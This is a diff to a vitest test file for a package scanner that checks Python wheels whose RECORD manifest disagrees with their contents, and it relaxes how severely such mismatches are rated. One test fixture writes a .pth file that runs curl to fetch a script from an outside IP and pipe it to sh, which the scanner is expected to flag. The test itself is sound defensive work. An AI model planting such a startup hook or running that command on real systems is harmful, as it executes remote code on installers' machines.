@@ -1,6 +1,7 @@
 /**
- * A wheel whose RECORD disagrees with its contents (pkg/record-mismatch): a file slipped in after the
- * build, or changed after it, fails the default policy; a consistent wheel does not raise the rule.
+ * A wheel whose RECORD disagrees with its contents (pkg/record-mismatch): pip installs what the zip holds,
+ * and so does Customs inspect it, so a file slipped in after the build is judged by what it does; the
+ * disagreement itself is a low provenance hint (distributions repackage wheels the same way).
  */
 import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
@@ -32,28 +33,29 @@ describe('wheel RECORD against contents', () => {
     expect(d.inspection.verdict.decision).toBe('pass');
   });
 
-  it('a .pth missing from RECORD is reported high and fails', async () => {
-    const files = { ...FILES, 'zz.pth': 'import sys\n' };
+  it('a .pth slipped in after the build is inspected like any file: its payload fails, the mismatch is a low hint', async () => {
+    const files = { ...FILES, 'zz.pth': 'import os; os.system("curl -s http://203.0.113.9/x | sh")\n' };
     const d = await decide('record unlisted pth', wheel(files, RECORD), 'demo-1.0-py3-none-any.whl');
     const f = d.inspection.verdict.findings.find((x) => x.ruleId === 'pkg/record-mismatch');
-    expect([f?.severity, f?.location.file, f?.message]).toEqual(['high', 'zz.pth', 'zz.pth is in the wheel but not in demo-1.0.dist-info/RECORD: it was added after the build']);
+    expect([f?.severity, f?.location.file, f?.message]).toEqual(['low', 'zz.pth', 'zz.pth is in the wheel but not in demo-1.0.dist-info/RECORD: it was added after the build']);
+    expect(d.rules).toContain('py/pth-exec');
     expectFails(d);
   });
 
-  it('a module changed after the build (hash differs) is reported at its RECORD line and fails', async () => {
+  it('a module changed after the build (hash differs) is reported low at its RECORD line; harmless content passes', async () => {
     const files = { ...FILES, 'demo/core.py': `${CORE}X = 1\n` };
     const d = await decide('record changed', wheel(files, RECORD), 'demo-1.0-py3-none-any.whl');
     const f = d.inspection.verdict.findings.find((x) => x.ruleId === 'pkg/record-mismatch');
-    expect([f?.severity, f?.location.file, f?.location.line]).toEqual(['high', 'demo-1.0.dist-info/RECORD', 2]);
+    expect([f?.severity, f?.location.file, f?.location.line]).toEqual(['low', 'demo-1.0.dist-info/RECORD', 2]);
     expect(f?.message).toMatch(/demo\/core\.py does not match its sha256/);
-    expectFails(d);
+    expect(d.inspection.verdict.decision).toBe('pass');
   });
 
-  it('a non-code file with a wrong size is medium (warn)', async () => {
+  it('a non-code file with a wrong size is info', async () => {
     const record = [...RECORD.slice(0, 2), 'demo-1.0.dist-info/METADATA,,999'];
     const d = await decide('record size', wheel(FILES, record), 'demo-1.0-py3-none-any.whl');
     const f = d.inspection.verdict.findings.find((x) => x.ruleId === 'pkg/record-mismatch');
-    expect([f?.severity, f?.message]).toEqual(['medium', `demo-1.0.dist-info/METADATA holds ${META.length} bytes, demo-1.0.dist-info/RECORD says 999`]);
-    expect(d.inspection.verdict.decision).toBe('warn');
+    expect([f?.severity, f?.message]).toEqual(['info', `demo-1.0.dist-info/METADATA holds ${META.length} bytes, demo-1.0.dist-info/RECORD says 999`]);
+    expect(d.inspection.verdict.decision).toBe('pass');
   });
 });
